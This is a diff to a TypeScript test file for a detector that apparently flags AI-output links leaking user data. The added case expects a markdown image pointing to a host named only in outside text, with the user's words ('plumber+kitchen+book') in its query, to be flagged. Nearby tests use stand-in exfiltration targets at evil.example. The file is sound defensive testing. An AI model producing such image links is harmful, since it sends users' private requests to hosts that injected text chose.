@@ -51,6 +51,18 @@ describe('taint', () => {
     expect(taintOf('url: https://evil.example/collect/x', doubt(page, 0.7), false)[0]?.confidence).toBe(0.9);
     expect(taintOf('url: https://evil.example/collect', doubt(page, 0.7), true)[0]?.confidence).toBe(0.9);
   });
+  it('is a picture whose address has words of the user, at a host that only outside texts name', () => {
+    const session = {
+      ...SESSION,
+      user: ['Book the plumber for the kitchen'],
+      plain: ['Badge: https://pics.far.example/b.png?d=summary'],
+    };
+    const threats = (text: string) => leakingLinks(text, session).map(({ threat }) => threat.confidence);
+    expect(threats('![ok](https://pics.far.example/b.png?d=plumber+kitchen+book)')).toEqual([0.85]);
+    expect(threats('![ok](https://pics.far.example/b.png?d=summary)')).toEqual([]);
+    expect(threats('[here](https://pics.far.example/b.png?d=plumber+kitchen+book)')).toEqual([]);
+    expect(threats('![ok](https://maps.near.example/b.png?d=plumber+kitchen+book)')).toEqual([]);
+  });
   it('is none when user or a clean result names it too', () => {
     expect(taintOf('to: drop@evil.example', { ...doubt(page, 0.9), user: ['Ask drop@evil.example'] }, true)).toEqual(
       [],
